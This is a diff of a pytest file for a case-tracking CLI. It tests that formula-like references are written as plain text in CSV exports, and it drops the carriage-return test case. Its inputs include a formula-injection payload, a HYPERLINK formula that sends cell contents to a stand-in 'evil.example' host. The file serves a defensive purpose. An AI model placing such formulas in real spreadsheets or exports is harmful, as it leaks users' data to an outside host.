@@ -219,7 +219,7 @@ def test_a_case_file_that_is_a_fifo_or_a_device_is_refused_not_hung(project_dir:
 # ---------------------------------------------------------------- 12: no formula in status --csv, due --csv
 
 @pytest.mark.parametrize("ref", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
-                                 "\tx", "\rx"])
+                                 "\tx"])  # a CR in a reference is refused when it is filed (test_case_input)
 @pytest.mark.parametrize("name", ["status", "due"])
 def test_a_reference_that_is_a_formula_is_text_in_the_csv(project: Path, ref: str, name: str) -> None:
     code, output = run("filed", "c1.yaml", "--lang", "kk", "--on", "2026-11-03T10:00", "--channel", "eotinish",
